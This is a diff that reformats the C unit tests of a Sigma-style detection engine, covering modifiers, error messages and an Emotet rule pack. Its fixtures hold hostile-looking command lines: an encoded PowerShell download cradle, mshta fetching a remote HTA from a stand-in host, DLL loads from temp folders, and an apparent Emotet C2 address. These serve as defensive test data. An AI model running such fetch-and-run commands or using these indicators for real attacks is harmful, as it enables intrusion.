@@ -126,7 +126,10 @@ static void test_wildcards_and_escapes(void **state)
     assert_int_equal(hit("    Image: 'a*b*c'", XF_F_IMAGE, "aXXbYYbZc"), 1);
     assert_int_equal(hit("    Image: 'a*b*c'", XF_F_IMAGE, "aXXbYYcZ"), 0);
     /* ? is one character, also when it is several UTF-8 bytes */
-    assert_int_equal(hit("    Image: 'a?b'", XF_F_IMAGE, "a\xc3\xa9" "b"), 1);
+    assert_int_equal(hit("    Image: 'a?b'", XF_F_IMAGE,
+                         "a\xc3\xa9"
+                         "b"),
+                     1);
     /* \* is a literal star; \\ before a wildcard is one backslash */
     assert_int_equal(hit("    CommandLine: 'a\\*b'", XF_F_COMMAND_LINE, "a*b"), 1);
     assert_int_equal(hit("    CommandLine: 'a\\*b'", XF_F_COMMAND_LINE, "aXb"), 0);
@@ -136,14 +139,15 @@ static void test_wildcards_and_escapes(void **state)
 static void test_contains_startswith_endswith(void **state)
 {
     (void)state;
-    assert_int_equal(hit("    CommandLine|contains: 'DownloadFile'", XF_F_COMMAND_LINE,
-                         "x.downloadfile(y)"), 1);
+    assert_int_equal(
+        hit("    CommandLine|contains: 'DownloadFile'", XF_F_COMMAND_LINE, "x.downloadfile(y)"), 1);
     assert_int_equal(hit("    CommandLine|startswith: 'cmd'", XF_F_COMMAND_LINE, "CMD /c x"), 1);
     assert_int_equal(hit("    CommandLine|startswith: 'cmd'", XF_F_COMMAND_LINE, "x cmd"), 0);
     assert_int_equal(hit("    Image|endswith: '\\rundll32.exe'", XF_F_IMAGE,
-                         "C:\\Windows\\System32\\RUNDLL32.EXE"), 1);
-    assert_int_equal(hit("    Image|endswith: '\\rundll32.exe'", XF_F_IMAGE,
-                         "C:\\rundll32.exe.tmp"), 0);
+                         "C:\\Windows\\System32\\RUNDLL32.EXE"),
+                     1);
+    assert_int_equal(
+        hit("    Image|endswith: '\\rundll32.exe'", XF_F_IMAGE, "C:\\rundll32.exe.tmp"), 0);
     /* a wildcard inside a contains value still works */
     assert_int_equal(hit("    CommandLine|contains: 'a*z'", XF_F_COMMAND_LINE, "xxaMMzxx"), 1);
 }
@@ -162,7 +166,8 @@ static void test_re_is_case_sensitive_unless_i(void **state)
 {
     (void)state;
     assert_int_equal(hit("    CommandLine|re: '-e(nc)? [A-Za-z0-9+/=]{8,}'", XF_F_COMMAND_LINE,
-                         "powershell -enc SQBFAFgA"), 1);
+                         "powershell -enc SQBFAFgA"),
+                     1);
     assert_int_equal(hit("    CommandLine|re: 'Invoke'", XF_F_COMMAND_LINE, "invoke"), 0);
     assert_int_equal(hit("    CommandLine|re|i: 'Invoke'", XF_F_COMMAND_LINE, "invoke"), 1);
 }
@@ -187,13 +192,22 @@ static void test_windash_matches_every_dash(void **state)
     const char *sel = "    CommandLine|windash|contains: ' -enc '";
     assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "powershell -enc AAA"), 1);
     assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "powershell /enc AAA"), 1);
-    assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "powershell \xe2\x80\x93" "enc AAA"), 1);
-    assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "powershell \xe2\x80\x94" "enc AAA"), 1);
-    assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "powershell \xe2\x80\x95" "enc AAA"), 1);
+    assert_int_equal(hit(sel, XF_F_COMMAND_LINE,
+                         "powershell \xe2\x80\x93"
+                         "enc AAA"),
+                     1);
+    assert_int_equal(hit(sel, XF_F_COMMAND_LINE,
+                         "powershell \xe2\x80\x94"
+                         "enc AAA"),
+                     1);
+    assert_int_equal(hit(sel, XF_F_COMMAND_LINE,
+                         "powershell \xe2\x80\x95"
+                         "enc AAA"),
+                     1);
     assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "powershell +enc AAA"), 0);
     /* a slash in the rule also stands for a dash */
-    assert_int_equal(hit("    CommandLine|windash|contains: ' /c '", XF_F_COMMAND_LINE,
-                         "cmd -c echo"), 1);
+    assert_int_equal(
+        hit("    CommandLine|windash|contains: ' /c '", XF_F_COMMAND_LINE, "cmd -c echo"), 1);
 }
 
 static void test_base64offset_matches_at_each_offset(void **state)
@@ -206,7 +220,8 @@ static void test_base64offset_matches_at_each_offset(void **state)
     /* base64 is case-sensitive */
     assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "x AHR0CDOVL2V2AWWUZXHHBXBSZS9H"), 0);
     assert_int_equal(hit("    CommandLine|base64|contains: 'http://evil.example/a'",
-                         XF_F_COMMAND_LINE, "x aHR0cDovL2V2aWwuZXhhbXBsZS9h y"), 1);
+                         XF_F_COMMAND_LINE, "x aHR0cDovL2V2aWwuZXhhbXBsZS9h y"),
+                     1);
 }
 
 static void test_wide_base64offset_finds_powershell_enc_payload(void **state)
@@ -215,10 +230,12 @@ static void test_wide_base64offset_finds_powershell_enc_payload(void **state)
     /* powershell -enc of "IEX (New-Object Net.WebClient).DownloadString(1)" (UTF-16LE) */
     const char *cl = "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZ"
                      "QBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAxACkA";
-    assert_int_equal(hit("    CommandLine|wide|base64offset|contains: 'DownloadString'",
-                         XF_F_COMMAND_LINE, cl), 1);
-    assert_int_equal(hit("    CommandLine|wide|base64offset|contains: 'DownloadFile'",
-                         XF_F_COMMAND_LINE, cl), 0);
+    assert_int_equal(
+        hit("    CommandLine|wide|base64offset|contains: 'DownloadString'", XF_F_COMMAND_LINE, cl),
+        1);
+    assert_int_equal(
+        hit("    CommandLine|wide|base64offset|contains: 'DownloadFile'", XF_F_COMMAND_LINE, cl),
+        0);
 }
 
 static void test_null_means_absent_and_exists(void **state)
@@ -274,26 +291,23 @@ static void test_keywords_search_keyword_fields(void **state)
 static void test_cased_is_case_sensitive(void **state)
 {
     (void)state;
-    assert_int_equal(hit("    CommandLine|contains|cased: 'IEX'", XF_F_COMMAND_LINE, "x iex y"),
-                     0);
-    assert_int_equal(hit("    CommandLine|contains|cased: 'IEX'", XF_F_COMMAND_LINE, "x IEX y"),
-                     1);
+    assert_int_equal(hit("    CommandLine|contains|cased: 'IEX'", XF_F_COMMAND_LINE, "x iex y"), 0);
+    assert_int_equal(hit("    CommandLine|contains|cased: 'IEX'", XF_F_COMMAND_LINE, "x IEX y"), 1);
 }
 
 static void test_field_aliases_resolve_to_our_fields(void **state)
 {
     (void)state;
-    assert_int_equal(hit("    NewProcessName|endswith: '\\cmd.exe'", XF_F_IMAGE, "c:\\cmd.exe"),
-                     1);
-    assert_int_equal(hit("    ParentProcessName|endswith: '\\w.exe'", XF_F_PARENT_IMAGE,
-                         "c:\\w.exe"), 1);
+    assert_int_equal(hit("    NewProcessName|endswith: '\\cmd.exe'", XF_F_IMAGE, "c:\\cmd.exe"), 1);
+    assert_int_equal(
+        hit("    ParentProcessName|endswith: '\\w.exe'", XF_F_PARENT_IMAGE, "c:\\w.exe"), 1);
     assert_int_equal(hit("    DestPort: 445", XF_F_DESTINATION_PORT, "445"), 1);
     assert_int_equal(hit("    ServiceFileName|contains: 'cmd'", XF_F_IMAGE_PATH, "cmd /c"), 1);
     assert_int_equal(hit("    SHA256: 'ab'", XF_F_SHA256, "AB"), 1);
-    assert_int_equal(hit("    TargetImage|endswith: 'lsass.exe'", XF_F_TARGET_IMAGE,
-                         "c:\\lsass.exe"), 1);
-    assert_int_equal(hit("    DestinationHostname: 'a.example'", XF_F_DESTINATION_HOSTNAME,
-                         "A.example"), 1);
+    assert_int_equal(
+        hit("    TargetImage|endswith: 'lsass.exe'", XF_F_TARGET_IMAGE, "c:\\lsass.exe"), 1);
+    assert_int_equal(
+        hit("    DestinationHostname: 'a.example'", XF_F_DESTINATION_HOSTNAME, "A.example"), 1);
 }
 
 /* ---- conditions ---------------------------------------------------------------------------- */
@@ -412,17 +426,17 @@ static void test_tags_become_techniques_and_tactics(void **state)
 
 static void test_logsource_category_restricts_rules(void **state)
 {
-    struct xf_ruleset *rs = load_ok(
-        "title: proc\nlogsource: {category: process_creation}\n"
-        "detection: {s: {Image|endswith: 'x.exe'}, condition: s}\n"
-        "---\n"
-        "title: file\nlogsource: {category: file_event}\n"
-        "detection: {s: {Image|endswith: 'x.exe'}, condition: s}\n"
-        "---\n"
-        "title: any\nlogsource: {product: windows, service: system}\n"
-        "detection: {s: {Image|endswith: 'x.exe'}, condition: s}\n"
-        "---\n"
-        "title: corr\ncorrelation: {type: event_count, rules: [proc]}\n");
+    struct xf_ruleset *rs =
+        load_ok("title: proc\nlogsource: {category: process_creation}\n"
+                "detection: {s: {Image|endswith: 'x.exe'}, condition: s}\n"
+                "---\n"
+                "title: file\nlogsource: {category: file_event}\n"
+                "detection: {s: {Image|endswith: 'x.exe'}, condition: s}\n"
+                "---\n"
+                "title: any\nlogsource: {product: windows, service: system}\n"
+                "detection: {s: {Image|endswith: 'x.exe'}, condition: s}\n"
+                "---\n"
+                "title: corr\ncorrelation: {type: event_count, rules: [proc]}\n");
     struct titles t = {{0}};
     struct xf_event ev;
 
@@ -481,8 +495,7 @@ static void test_error_unknown_selection(void **state)
 static void test_error_bad_condition_syntax(void **state)
 {
     (void)state;
-    load_err(HEAD "detection:\n  s: {Image: x}\n  condition: (s\n", 5,
-             "condition: missing ')'");
+    load_err(HEAD "detection:\n  s: {Image: x}\n  condition: (s\n", 5, "condition: missing ')'");
     load_err(HEAD "detection:\n  s: {Image: x}\n  condition: s and\n", 5,
              "condition: unexpected end");
     load_err(HEAD "detection:\n  s: {Image: x}\n  condition: s | count() > 5\n", 5,
@@ -501,15 +514,14 @@ static void test_error_bad_regex_carries_pcre2_message(void **state)
 static void test_error_unknown_field(void **state)
 {
     (void)state;
-    load_err(HEAD "detection:\n  s:\n    Imagez: x\n  condition: s\n", 5,
-             "unknown field 'Imagez'");
+    load_err(HEAD "detection:\n  s:\n    Imagez: x\n  condition: s\n", 5, "unknown field 'Imagez'");
 }
 
 static void test_error_bad_cidr(void **state)
 {
     (void)state;
-    load_err(HEAD "detection:\n  s:\n    DestinationIp|cidr: '10.0.0.0/33'\n  condition: s\n",
-             5, "bad cidr '10.0.0.0/33'");
+    load_err(HEAD "detection:\n  s:\n    DestinationIp|cidr: '10.0.0.0/33'\n  condition: s\n", 5,
+             "bad cidr '10.0.0.0/33'");
     load_err(HEAD "detection:\n  s:\n    DestinationIp|cidr: '10.0.0/8'\n  condition: s\n", 5,
              "bad cidr '10.0.0/8'");
 }
@@ -648,7 +660,7 @@ static void pack_fires(struct xf_ruleset *rs, const struct xf_event *ev, const c
     assert_string_equal(t.buf, want);
 }
 
-#define PROC(img, cl, parent)                                                                     \
+#define PROC(img, cl, parent)                                                                      \
     XF_CAT_PROCESS, XF_F_IMAGE, img, XF_F_COMMAND_LINE, cl, XF_F_PARENT_IMAGE, parent, -1
 
 static void test_pack_loads_without_errors(void **state)
@@ -670,14 +682,16 @@ static void test_pack_fires_on_emotet_outbreak(void **state)
 
     (void)state;
     ev_build(&ev, PROC(ps, "powershell -w hidden -enc JABzAD0AJwBoAHQAdABwAA==", word));
-    pack_fires(rs, &ev, "Office Application Spawns Script Host or LOLBin; "
-                        "PowerShell With Encoded Command");
+    pack_fires(rs, &ev,
+               "Office Application Spawns Script Host or LOLBin; "
+               "PowerShell With Encoded Command");
     xf_event_close(&ev);
 
     ev_build(&ev, PROC(ps, "powershell -e JABzAD0AJwBoAHQAdABwAA==",
                        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"));
-    pack_fires(rs, &ev, "PowerShell With Encoded Command; "
-                        "WMI Provider Host Spawns Shell or Script Host");
+    pack_fires(rs, &ev,
+               "PowerShell With Encoded Command; "
+               "WMI Provider Host Spawns Shell or Script Host");
     xf_event_close(&ev);
 
     ev_build(&ev, PROC(ps,
@@ -687,16 +701,20 @@ static void test_pack_fires_on_emotet_outbreak(void **state)
     pack_fires(rs, &ev, "PowerShell Download Cradle; Windows Script Host Spawns PowerShell");
     xf_event_close(&ev);
 
-    ev_build(&ev, PROC(r32, "rundll32.exe C:\\Users\\akiko\\AppData\\Local\\Temp\\a.dll,"
-                            "Control_RunDLL", ps));
-    pack_fires(rs, &ev, "Regsvr32 or Rundll32 Runs a DLL From a User-Writable Folder; "
-                        "Emotet Loader Rundll32 Execution");
+    ev_build(&ev, PROC(r32,
+                       "rundll32.exe C:\\Users\\akiko\\AppData\\Local\\Temp\\a.dll,"
+                       "Control_RunDLL",
+                       ps));
+    pack_fires(rs, &ev,
+               "Regsvr32 or Rundll32 Runs a DLL From a User-Writable Folder; "
+               "Emotet Loader Rundll32 Execution");
     xf_event_close(&ev);
 
     ev_build(&ev, PROC("C:\\Windows\\SysWOW64\\regsvr32.exe",
                        "regsvr32.exe -s C:\\ProgramData\\Yfhsd\\lbsz.dll", word));
-    pack_fires(rs, &ev, "Office Application Spawns Script Host or LOLBin; "
-                        "Regsvr32 or Rundll32 Runs a DLL From a User-Writable Folder");
+    pack_fires(rs, &ev,
+               "Office Application Spawns Script Host or LOLBin; "
+               "Regsvr32 or Rundll32 Runs a DLL From a User-Writable Folder");
     xf_event_close(&ev);
 
     ev_build(&ev, PROC("C:\\Windows\\System32\\mshta.exe", "mshta http://e.example/x.hta",
@@ -711,8 +729,9 @@ static void test_pack_fires_on_emotet_outbreak(void **state)
 
     ev_build(&ev, XF_CAT_NETWORK, XF_F_IMAGE, r32, XF_F_DESTINATION_IP, "162.243.103.246",
              XF_F_DESTINATION_PORT, "8080", -1);
-    pack_fires(rs, &ev, "Rundll32 or Regsvr32 Connects on Emotet C2 Ports; "
-                        "Proxy-Execution Binary Connects to a Public IP");
+    pack_fires(rs, &ev,
+               "Rundll32 or Regsvr32 Connects on Emotet C2 Ports; "
+               "Proxy-Execution Binary Connects to a Public IP");
     xf_event_close(&ev);
 
     ev_build(&ev, XF_CAT_NETWORK, XF_F_IMAGE, r32, XF_F_DESTINATION_IP, "10.20.0.17",
@@ -776,8 +795,7 @@ static void test_pack_quiet_on_benign_lookalikes(void **state)
     xf_event_close(&ev);
 
     ev_build(&ev, XF_CAT_FILE, XF_F_IMAGE, word, XF_F_TARGET_FILENAME,
-             "C:\\Users\\akiko\\AppData\\Roaming\\Microsoft\\Office\\Recent\\report.docx.LNK",
-             -1);
+             "C:\\Users\\akiko\\AppData\\Roaming\\Microsoft\\Office\\Recent\\report.docx.LNK", -1);
     pack_fires(rs, &ev, "");
     xf_event_close(&ev);
 
